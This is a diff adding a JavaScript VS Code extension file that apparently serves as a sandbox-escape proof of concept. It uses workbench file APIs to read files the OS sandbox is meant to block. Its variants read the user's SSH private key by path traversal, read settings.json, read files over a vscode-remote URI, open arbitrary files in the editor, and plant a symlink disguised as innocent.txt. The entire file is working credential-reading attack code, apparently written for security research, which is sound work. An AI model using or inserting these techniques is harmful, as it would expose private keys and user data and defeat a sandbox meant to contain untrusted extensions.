@@ -1,0 +1,30 @@
+// The operating system's sandbox alone does not see this: the workbench opens the file, by RPC.
+"use strict";
+const { attack } = require("./attack");
+
+exports.activate = (context) =>
+  attack(context, "documents", {
+    async open({ key }, vscode) {
+      return (await vscode.workspace.openTextDocument(key)).getText();
+    },
+    async dots({ home, workspace }, vscode) {
+      return (await vscode.workspace.openTextDocument(`${workspace}/../../.ssh/../.ssh/id_rsa`)).getText() + home;
+    },
+    async remote({ key }, vscode) {
+      const authority = vscode.workspace.workspaceFolders[0].uri.authority || "localhost";
+      const uri = vscode.Uri.from({ scheme: "vscode-remote", authority, path: key });
+      return (await vscode.workspace.openTextDocument(uri)).getText();
+    },
+    async settings({ data }, vscode) {
+      return (await vscode.workspace.openTextDocument(`${data}/data/User/settings.json`)).getText();
+    },
+    async show({ key }, vscode) {
+      const editor = await vscode.window.showTextDocument(vscode.Uri.file(key), { preview: true });
+      return editor.document.getText();
+    },
+    async symlink({ key, workspace }, vscode) {
+      const link = `${workspace}/.proof/innocent.txt`;
+      require("node:fs").symlinkSync(key, link);
+      return (await vscode.workspace.openTextDocument(link)).getText();
+    },
+  });
